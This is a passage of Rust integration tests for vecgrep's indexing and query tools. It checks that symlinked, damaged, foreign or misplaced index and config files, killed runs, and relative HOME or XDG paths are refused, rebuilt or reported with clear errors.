        assert!(err.contains("not a regular file"), "{err}");
    };

    let t = sample_project();
    std::fs::create_dir_all(t.path().join(".vecgrep")).unwrap();
    symlink("/dev/zero", t.path().join(".vecgrep/config.toml")).unwrap();
    let o = run(t.cmd("vg-query", ".").arg("retry"));
    assert_code(&o, 2);
    line_naming(&o, "vg-query", "cannot read config");
    std::fs::remove_file(t.path().join(".vecgrep/config.toml")).unwrap();

    symlink("/dev/zero", t.path().join(".gitignore")).unwrap();
    let o = run(&mut t.cmd("vg-index", "."));
    assert_code(&o, 2);
    line_naming(&o, "vg-index", "ignore file .gitignore");
    std::fs::remove_file(t.path().join(".gitignore")).unwrap();

    let o = run(t.cmd("vg-index", ".").args(["--ignore-file", "/dev/zero"]));
    assert_code(&o, 2);
    line_naming(&o, "vg-index", "ignore file /dev/zero");
    let o = run(t.cmd("vg-index", ".").args(["--ignore-file", "/no/such/ignore"]));
    assert_code(&o, 2);
    assert_eq!(stderr(&o), "vg-index: ignore file /no/such/ignore: no such file\n");
    // A rule that does not parse is left out, the file's others kept, as in
    // an ignore file of the tree; a line not UTF-8 is said once, path and
    // all (the run stopped on the first, and named the file twice: audit 192).
    let rules = t.path().with_extension("rules");
    std::fs::write(&rules, "src/{gen\n*.md\n").unwrap();
    let o =
        run(t.cmd("vg-query", ".").args(["--ignore-file", rules.to_str().unwrap(), "--threshold=-1", "-k", "99", "q"]));
    assert_code(&o, 0);
    let said =
        format!("vg-query: ignore file {}, a rule left out: line 1: error parsing glob 'src/{{gen'", rules.display());
    assert!(stderr(&o).starts_with(&said), "{}", stderr(&o));
    assert!(records(&o).iter().all(|r| !r["file"].as_str().unwrap().ends_with(".md")), "{}", stdout(&o));
    std::fs::write(&rules, b"*.md\n\xff\n").unwrap();
    let o = run(t.cmd("vg-query", ".").args(["--ignore-file", rules.to_str().unwrap(), "q"]));
    assert_code(&o, 2);
    let said = format!(
        "vg-query: ignore file {}: line 2 is not UTF-8, and the rules from there on would go unread\n",
        rules.display()
    );
    assert_eq!(stderr(&o), said);
    std::fs::remove_file(&rules).unwrap();

    // Git's own exclude file is read as the others are.
    std::fs::create_dir_all(t.path().join(".git/info")).unwrap();
    let _ = std::fs::remove_file(t.path().join(".git/info/exclude"));
    symlink("/dev/zero", t.path().join(".git/info/exclude")).unwrap();
    let o = run(&mut t.cmd("vg-index", "."));
    assert_code(&o, 2);
    line_naming(&o, "vg-index", "ignore file .git/info/exclude");
    std::fs::remove_file(t.path().join(".git/info/exclude")).unwrap();

    // Deeper down: that directory is skipped, the rest indexed, status 2,
    // and the error said even with --quiet.
    symlink("/dev/zero", t.path().join("src/.vecgrepignore")).unwrap();
    let o = run(t.cmd("vg-index", ".").arg("--quiet"));
    assert_code(&o, 2);
    let err = stderr(&o);
    assert!(err.starts_with("vg-index: skipping src/.vecgrepignore: not a regular file"), "{err}");
    let skips = of_type(&records(&o), "skip").iter().map(|s| s["file"].clone()).collect::<Vec<_>>();
    assert_eq!(skips, [Value::from("src/.vecgrepignore")], "{}", stdout(&o));
    assert_eq!(summary(&o)["files"], 1, "docs/guide.md");
    std::fs::remove_file(t.path().join("src/.vecgrepignore")).unwrap();

    // The index's own .gitignore, shipped as a link to a file the user
    // has not made yet: nothing is made there, and the run goes on.
    let elsewhere = Tree::bare();
    let target = elsewhere.path().join("made-by-vecgrep");
    let _ = std::fs::remove_file(t.path().join(".vecgrep/.gitignore"));
    symlink(&target, t.path().join(".vecgrep/.gitignore")).unwrap();
    assert_code(&run(&mut t.cmd("vg-index", ".")), 0);
    assert!(!target.exists(), "written through the link");
}

/// Damage within the pages of an index (not its header, which is found on
/// open): a run whose write meets it says the index is damaged and how to
/// rebuild it, and `--reindex` rebuilds it whatever state it is in.
#[test]
fn reindex_rebuilds_an_index_damaged_within_its_pages() {
    let t = handlers_project(200);
    assert_code(&run(&mut t.cmd("vg-index", ".")), 0);
    let files = stats_files(&t);
    let db = t.path().join(".vecgrep/index.db");
    let mut bytes = std::fs::read(&db).unwrap();
    // Past the first pages (the schema), a stretch of every third page.
    let mut at = 36_864;
    while at + 500 < bytes.len() {
        for (i, b) in bytes[at..at + 500].iter_mut().enumerate() {
            *b = (i * 7 + at) as u8;
        }
        at += 12_288;
    }
    std::fs::write(&db, bytes).unwrap();
    t.write("src/new_handler.py", "def new_handler():\n    return 'fresh'\n");
    let o = run(&mut t.cmd("vg-index", "."));
    assert_code(&o, 2);
    let err = stderr(&o);
    assert!(err.contains("is damaged") && err.contains("to rebuild it"), "{err}");
    let o = run(t.cmd("vg-index", ".").arg("--reindex"));
    assert_code(&o, 0);
    assert!(stderr(&o).contains("rebuilding the index at"), "{}", stderr(&o));
    assert_eq!(verify(&t)["ok"], true);
    assert_eq!(stats_files(&t), files + 1);
}

/// What the damage error advises, a plain run, rebuilds the index and
/// keeps the revisions' (audit 212: it advised `--clear-cache`, which
/// dropped every `--rev` index and the commit log too).
#[test]
fn the_advised_run_rebuilds_a_damaged_index_and_keeps_the_revisions() {
    let t = git_repo();
    write_handlers(&t, 0..200);
    commit_all(&t, "handlers");
    assert_code(&run(&mut t.cmd("vg-index", ".")), 0);
    assert_code(&run(t.cmd("vg-index", ".").args(["--rev", "HEAD"])), 0);
    let db = t.path().join(".vecgrep/index.db");
    let mut bytes = std::fs::read(&db).unwrap();
    for at in (36_864..bytes.len().saturating_sub(500)).step_by(12_288) {
        bytes[at..at + 500].fill(0x5a);
    }
    std::fs::write(&db, bytes).unwrap();
    t.write("src/new_handler.py", "def new_handler():\n    return 'fresh'\n");
    let o = run(&mut t.cmd("vg-index", "."));
    assert_code(&o, 2);
    assert!(stderr(&o).contains("is damaged") && stderr(&o).contains("; run vg-index to rebuild it"), "{}", stderr(&o));
    assert_code(&run(&mut t.cmd("vg-index", ".")), 0);
    assert_eq!(verify(&t)["ok"], true);
    let o = run(t.cmd("vg-index", ".").args(["--stats", "--json"]));
    assert_eq!(records(&o)[0]["revisions"].as_array().map(Vec::len), Some(1), "{}", stdout(&o));
}

fn stats_files(t: &Tree) -> u64 {
    let o = run(t.cmd("vg-index", ".").args(["--stats", "--json"]));
    records(&o)[0]["files"].as_u64().unwrap()
}

#[test]
fn a_model_that_cannot_load_leaves_the_index_as_it_was() {
    let t = sample_project();
    assert_code(&run(&mut t.cmd("vg-index", ".")), 0);
    let o = run(t.cmd("vg-index", ".").args(["--embedder-model", "no-such-model"]));
    assert_code(&o, 2);
    assert!(stderr(&o).contains("no-such-model"), "{}", stderr(&o));
    let o = run(t.cmd("vg-index", ".").args(["--stats", "--json"]));
    assert_eq!(records(&o)[0]["complete"], true, "{}", stdout(&o));
    assert_eq!(verify(&t)["ok"], true);
}

/// A run over the whole project killed after it began changing the index
/// leaves it marked incomplete (`stats`' `complete`), and a `--no-index`
/// search says so; a run over part of the project leaves the mark, and the
/// next whole run clears it.
#[test]
fn an_index_left_by_an_unfinished_run_says_it_is_incomplete() {
    let t = handlers_project(120);
    let complete = |t: &Tree| {
        let o = run(t.cmd("vg-index", ".").args(["--stats", "--json"]));
        records(&o)[0]["complete"].as_bool().unwrap()
    };
    assert_eq!(kill_after_file_records(&mut t.cmd("vg-index", "."), 1), 1);
    assert!(!complete(&t), "killed after its first file");
    let o = run(t.cmd("vg-query", ".").args(["--no-index", "handler"]));
    assert!(stderr(&o).contains("the index is incomplete"), "{}", stderr(&o));
    let o = run(t.cmd("vg-index", ".").arg("--stats"));
    assert!(stdout(&o).contains("(incomplete: no run over the whole project has finished"), "{}", stdout(&o));
    // While a run holds the lock, the same state is a run under way.
    let lock = hold_index_lock(&t);
    let o = run(t.cmd("vg-query", ".").args(["--no-index", "handler"]));
    assert!(stderr(&o).contains("an index run is under way"), "{}", stderr(&o));
    let o = run(t.cmd("vg-index", ".").arg("--stats"));
    assert!(stdout(&o).contains("(incomplete: an index run is under way)"), "{}", stdout(&o));
    drop(lock);
    assert_code(&run(&mut t.cmd("vg-index", "src")), 0);
    assert!(!complete(&t), "a run over src/ alone does not finish the whole");
    assert_code(&run(&mut t.cmd("vg-index", ".")), 0);
    assert!(complete(&t));
    let o = run(t.cmd("vg-query", ".").args(["--no-index", "handler"]));
    assert!(!stderr(&o).contains("incomplete"), "{}", stderr(&o));
    // A run over part of the project, killed, leaves the mark as it was
    // (it marked the whole index incomplete until a whole run).
    for i in 0..120 {
        t.write(&format!("src/handler{i:03}.py"), &format!("def handler_{i}():\n    return {i} + 1\n"));
    }
    assert_eq!(kill_after_file_records(&mut t.cmd("vg-index", "src"), 1), 1);
    assert!(complete(&t), "a run over src/ killed");
    assert_code(&run(&mut t.cmd("vg-index", ".")), 0);
    // A rebuild killed at once: the emptied index is not taken as whole.
    assert_eq!(kill_after_file_records(t.cmd("vg-index", ".").arg("--reindex"), 1), 1);
    assert!(!complete(&t), "a rebuild killed after its first file");
    assert_code(&run(&mut t.cmd("vg-index", ".")), 0);
    assert!(complete(&t));
    // A rebuild by a run over one directory leaves only that directory in:
    // incomplete, said by a search of the whole index, until a whole run.
    let o = run(t.cmd("vg-index", "src").arg("--reindex"));
    assert_code(&o, 0);
    assert!(!complete(&t), "a rebuild over src/ alone: {}", stdout(&o));
    let o = run(t.cmd("vg-query", "src").args(["--no-scope", "--mode", "lexical", "handler"]));
    assert!(stderr(&o).contains("the index is incomplete"), "{}", stderr(&o));
    assert_code(&run(&mut t.cmd("vg-index", ".")), 0);
    assert!(complete(&t));
    // A fill killed part-way (the model's vectors for a static index, as a
    // server gives them) leaves every file in: the index stays whole, and
    // the next run over the project finds nothing to do.
    assert_eq!(kill_after_file_records(t.cmd("vg-index", ".").arg("--full"), 1), 1);
    assert!(complete(&t), "a fill killed after its first file left every file in");
    let o = run(t.cmd("vg-query", ".").args(["--no-index", "handler"]));
    assert!(!stderr(&o).contains("incomplete"), "{}", stderr(&o));
    let o = run(&mut t.cmd("vg-index", "."));
    assert_eq!((summary(&o)["embedded"].as_u64(), summary(&o)["removed"].as_u64()), (Some(0), Some(0)));
    assert!(complete(&t));
}

/// Another user's checkout, or a read-only mount: an index this user may
/// not write beside (WAL mode cannot make its shared-memory file there) is
/// still counted and searched as it is, read-only.
#[test]
fn an_index_this_user_cannot_write_beside_is_read_as_it_is() {
    let t = sample_project();
    assert_code(&run(&mut t.cmd("vg-index", ".")), 0);
    let reader = OtherUser::new(&t);
    let chmod = |args: &[&str]| assert!(Command::new("chmod").args(args).status().unwrap().success());
    let data = t.path().join(".vecgrep");
    chmod(&["-R", "a-w", data.to_str().unwrap()]);
    // Root may write anywhere: the reader is `nobody` then.
    let as_reader = |tool: &str, args: &[&str]| run(reader.cmd(&t, tool).args(args));
    let o = as_reader("vg-index", &["--stats", "--json"]);
    assert_code(&o, 0);
    assert_eq!(records(&o)[0]["files"], 4, "{}", stderr(&o));
    let o = as_reader("vg-query", &["--no-index", "--mode", "lexical", "retry"]);
    assert_code(&o, 0);
    assert!(records(&o).iter().any(|h| h["file"] == "src/upload.py"), "{}{}", stdout(&o), stderr(&o));
    // Verifying reads: an index that may not be written is not called damaged.
    let o = as_reader("vg-index", &["--verify"]);
    assert_code(&o, 0);
    assert!(stdout(&o).contains("is sound: 4 files"), "{}{}", stdout(&o), stderr(&o));
    chmod(&["-R", "u+w", data.to_str().unwrap()]);
}

/// An index path that holds a directory is an error that says so, not an
/// index of nothing (`--stats` said 0 files, and a search found nothing).
#[test]
fn an_index_path_that_is_not_a_file_is_an_error() {
    let t = sample_project();
    std::fs::create_dir_all(t.path().join(".vecgrep/index.db")).unwrap();
    for (tool, args) in [("vg-index", &["--stats"][..]), ("vg-query", &["--no-index", "retry"])] {
        let o = run(t.cmd(tool, ".").args(args));
        assert_code(&o, 2);
        let err = stderr(&o);
        assert_eq!(err.lines().count(), 1, "{err}");
        assert!(err.contains("index.db: a directory, not an index file"), "{err}");
    }
}

/// A file named `.vecgrep` where the index's directory goes is named as
/// such, not as "File exists".
#[test]
fn a_file_where_the_index_directory_goes_is_named_as_in_the_way() {
    let t = sample_project();
    std::fs::write(t.path().join(".vecgrep"), "not a directory\n").unwrap();
    for (tool, args) in [
        ("vg-index", &[][..]),
        ("vg-index", &["--stats"]),
        ("vg-index", &["--verify"]),
        ("vg-query", &["--no-index", "x"]),
    ] {
        let o = run(t.cmd(tool, ".").args(args));
        assert_code(&o, 2);
        let err = stderr(&o);
        assert_eq!(err.lines().count(), 1, "{err}");
        assert!(err.contains(".vecgrep: a file of that name is in the way"), "{args:?}: {err}");
    }
    // Clearing it says there was nothing to clear, and leaves the file.
    let o = run(t.cmd("vg-index", ".").arg("--clear-cache"));
    assert_code(&o, 0);
    assert!(stderr(&o).contains("holds no index to remove"), "{}", stderr(&o));
    assert_eq!(read(&t.path().join(".vecgrep")), "not a directory\n");
}

/// A repository may ship `.vecgrep` as a link: it is refused before
/// anything is written or removed there (a damaged or foreign `index.db` is
/// removed and rebuilt, and --clear-cache removes it), and before anything
/// is read there (another project's index was searched as this one's, and
/// SQLite removed the `-wal` file beside what it opened). Within the
/// project too: `.vecgrep -> data` made `data/index.db`, the project's own
/// database, an index.
#[test]
fn a_data_directory_that_is_a_link_is_refused() {
    use std::os::unix::fs::symlink;
    let t = sample_project();
    let elsewhere = Tree::bare();
    elsewhere.write("index.db", "another program's data\n");
    elsewhere.write("index.db-wal", "its log\n");
    symlink(elsewhere.path(), t.path().join(".vecgrep")).unwrap();
    let readers: [(&str, &[&str]); 3] =
        [("vg-index", &["--verify"]), ("vg-index", &["--stats"]), ("vg-query", &["--no-index", "upload"])];
    let writers: [(&str, &[&str]); 3] =
        [("vg-index", &[]), ("vg-index", &["--clear-cache"]), ("vg-index", &["--reindex"])];
    for (tool, args) in readers.iter().chain(&writers) {
        let o = run(t.cmd(tool, ".").args(*args));
        assert_code(&o, 2);
        let err = stderr(&o);
        assert!(err.contains("outside the project") && err.contains("never through a link"), "{tool} {args:?}: {err}");
    }
    assert_eq!(read(&elsewhere.path().join("index.db")), "another program's data\n");
    assert_eq!(read(&elsewhere.path().join("index.db-wal")), "its log\n");
    assert!(!elsewhere.path().join(".gitignore").exists() && !elsewhere.path().join("index.db-damaged").exists());
    std::fs::remove_file(t.path().join(".vecgrep")).unwrap();
    t.write("data/index.db", "the project's own data\n");
    symlink(t.path().join("data"), t.path().join(".vecgrep")).unwrap();
    for args in [&[][..], &["--clear-cache"]] {
        let o = run(t.cmd("vg-index", ".").args(args));
        assert_code(&o, 2);
        assert!(stderr(&o).contains("within the project"), "{args:?}: {}", stderr(&o));
    }
    assert_eq!(read(&t.path().join("data/index.db")), "the project's own data\n");
    assert!(!t.path().join("data/.gitignore").exists());
}

/// `index.db` shipped as a link (to another project's index, to another
/// program's database) is never opened through: a run removes the link,
/// not what it leads to, and builds its own. Another program's database in
/// its place is no index either, and a directory there is named as such.
#[test]
fn an_index_file_that_is_a_link_or_another_programs_database_is_not_written_to() {
    use std::os::unix::fs::symlink;
    let other = sample_project();
    assert_code(&run(&mut other.cmd("vg-index", ".")), 0);
    let files = |t: &Tree| records(&run(t.cmd("vg-index", ".").args(["--stats", "--json"])))[0]["files"].clone();
    let others_files = files(&other);
    let t = sample_project();
    std::fs::write(t.path().join("only.py"), "def only():\n    return 1\n").unwrap();
    std::fs::create_dir(t.path().join(".vecgrep")).unwrap();
    symlink(other.path().join(".vecgrep/index.db"), t.path().join(".vecgrep/index.db")).unwrap();
    // Reading alone refuses it.
    let o = run(t.cmd("vg-query", ".").args(["--no-index", "retry"]));
    assert_code(&o, 2);
    assert!(stderr(&o).contains("it is a link, which vecgrep never makes nor follows"), "{}", stderr(&o));
    let o = run(&mut t.cmd("vg-index", "."));
    assert_code(&o, 0);
    assert!(stderr(&o).contains("rebuilding the index") && stderr(&o).contains("a link"), "{}", stderr(&o));
    assert!(!t.path().join(".vecgrep/index.db").symlink_metadata().unwrap().file_type().is_symlink());
    assert_eq!(files(&other), others_files, "the other project's index is as it was");
    assert_code(&run(other.cmd("vg-index", ".").arg("--verify")), 0);

    // A companion SQLite opens beside it, as a link: the index is rebuilt, the link removed.
    let elsewhere = Tree::bare();
    elsewhere.write("shm", "not for vecgrep\n");
    symlink(elsewhere.path().join("shm"), t.path().join(".vecgrep/index.db-shm")).unwrap();
    let o = run(&mut t.cmd("vg-index", "."));
    assert_code(&o, 0);
    assert!(stderr(&o).contains("its index.db-shm is a link"), "{}", stderr(&o));
    assert_eq!(read(&elsewhere.path().join("shm")), "not for vecgrep\n");
    // A FIFO there is damage too; a directory is in the way, named, and left.
    let fifo = std::process::Command::new("mkfifo").arg(t.path().join(".vecgrep/index.db-shm")).status().unwrap();
    assert!(fifo.success());
    let o = run(&mut t.cmd("vg-index", "."));
    assert_code(&o, 0);
    assert!(stderr(&o).contains("its index.db-shm is not a regular file"), "{}", stderr(&o));
    std::fs::create_dir(t.path().join(".vecgrep/index.db-wal")).unwrap();
    let o = run(&mut t.cmd("vg-index", "."));
    assert_code(&o, 2);
    assert!(stderr(&o).contains("index.db-wal: not a regular file; remove it"), "{}", stderr(&o));
    std::fs::remove_dir(t.path().join(".vecgrep/index.db-wal")).unwrap();

    // Another program's database where the index goes.
    std::fs::remove_dir_all(t.path().join(".vecgrep")).unwrap();
    std::fs::create_dir(t.path().join(".vecgrep")).unwrap();
    let foreign = rusqlite::Connection::open(t.path().join(".vecgrep/index.db")).unwrap();
    foreign.execute_batch("CREATE TABLE files (name TEXT); INSERT INTO files VALUES ('x');").unwrap();
    drop(foreign);
    let o = run(&mut t.cmd("vg-index", "."));
    assert_code(&o, 0);
    assert!(stderr(&o).contains("no index of vecgrep's"), "{}", stderr(&o));
    assert_code(&run(t.cmd("vg-index", ".").arg("--verify")), 0);

    // A directory in the way is said to be one, once.
    std::fs::remove_dir_all(t.path().join(".vecgrep")).unwrap();
    std::fs::create_dir_all(t.path().join(".vecgrep/index.db")).unwrap();
    let o = run(&mut t.cmd("vg-index", "."));
    assert_code(&o, 2);
    let err = stderr(&o);
    assert!(err.contains("a directory, not an index file") && err.matches("index.db").count() == 1, "{err}");
    assert!(err.contains("remove it yourself"), "{err}");
    // A FIFO there holds nothing to lose: damage, rebuilt by the next run
    // (every tool said "not a regular file", and nothing rebuilt it: audit 225).
    std::fs::remove_dir(t.path().join(".vecgrep/index.db")).unwrap();
    let fifo = std::process::Command::new("mkfifo").arg(t.path().join(".vecgrep/index.db")).status().unwrap();
    assert!(fifo.success());
    let o = run(t.cmd("vg-query", ".").args(["--no-index", "retry"]));
    assert_code(&o, 2);
    assert!(stderr(&o).contains("is damaged (it is not a regular file"), "{}", stderr(&o));
    assert_code(&run(&mut t.cmd("vg-index", ".")), 0);
    assert_code(&run(t.cmd("vg-index", ".").arg("--verify")), 0);
}

/// `cmd` with the data and cache directories where the model is installed
/// (absolute, so taken), whatever `HOME` it is given.
fn keep_the_installed_model(cmd: &mut Command) {
    let real_home = std::path::PathBuf::from(std::env::var_os("HOME").unwrap());
    let installed = |var: &str, under_home: &str| {
        std::env::var_os(var)
            .map(std::path::PathBuf::from)
            .filter(|d| d.is_absolute())
            .unwrap_or(real_home.join(under_home))
    };
    cmd.env("XDG_DATA_HOME", installed("XDG_DATA_HOME", ".local/share"));
    cmd.env("XDG_CACHE_HOME", installed("XDG_CACHE_HOME", ".cache"));
}

/// The XDG Base Directory spec has a relative `XDG_*_HOME` ignored: it
/// would name another directory wherever a tool runs.
#[test]
fn a_relative_xdg_directory_is_ignored_for_the_one_under_home() {
    let t = sample_project();
    let home = tempfile::tempdir().unwrap();
    let write = |dir: &std::path::Path, k: u32| {
        std::fs::create_dir_all(dir.join("vecgrep")).unwrap();
        std::fs::write(dir.join("vecgrep/config.toml"), format!("top_k = {k}\n")).unwrap();
    };
    write(&home.path().join(".config"), 1);
    write(&t.path().join("rel"), 2);
    let mut cmd = t.cmd("vg-query", ".");
    cmd.env("XDG_CONFIG_HOME", "rel").env("HOME", home.path());
    keep_the_installed_model(&mut cmd);
    let o = run(cmd.args(["--threshold", "-1", "upload retry"]));
    assert_code(&o, 0);
    assert_eq!(of_type(&records(&o), "hit").len(), 1, "the config under HOME, not ./rel: {}", stderr(&o));
}

/// A relative `HOME` is no home: a cloned repository's own
/// `.config/vecgrep/config.toml`, read as the user's global file, chose
/// where its code was sent (audit 261: `HOME=.` took its `embedder_source`).
#[test]
fn a_relative_home_is_no_home_for_the_global_config() {
    let t = sample_project();
    std::fs::create_dir_all(t.path().join(".config/vecgrep")).unwrap();
    std::fs::write(t.path().join(".config/vecgrep/config.toml"), "top_k = 1\n").unwrap();
    let mut cmd = t.cmd("vg-query", ".");
    cmd.env_remove("XDG_CONFIG_HOME").env("HOME", ".");
    keep_the_installed_model(&mut cmd);
    let o = run(cmd.args(["--threshold", "-1", "upload retry"]));
    assert_code(&o, 0);
    assert!(of_type(&records(&o), "hit").len() > 1, "the tree's file is no global config: {}", stderr(&o));
}

/// A line said on stderr goes out in one write: written in pieces, another
/// writer's words (ONNX Runtime's complaints, a reply on a shared stream)
/// landed inside it. Seen through strace, where the machine has it.
#[test]
fn a_line_on_stderr_is_one_write() {
    let t = sample_project();
    let traced = t.path().join("writes.txt");
    let mut c = Command::new("strace");
    c.args(["-f", "-s", "400", "-e", "trace=write", "-o"]).arg(&traced).arg(bin("vg-index"));
    c.args(["--stats", "--embedder-model", "x"]).current_dir(t.path()).env("XDG_CONFIG_HOME", t.config_home.path());
    let Ok(o) = c.output() else { return };
    if !traced.exists() {
        return; // strace could not trace here (no ptrace in a container)
    }
    assert_code(&o, 2);
    let writes = std::fs::read_to_string(&traced).unwrap();
    let said: Vec<&str> = writes.lines().filter(|l| l.contains("write(2,")).collect();
    assert_eq!(said.len(), 1, "{writes}");
    assert!(said[0].contains("vg-index: --embedder-model does nothing with --stats; leave it out\\n"), "{writes}");
}
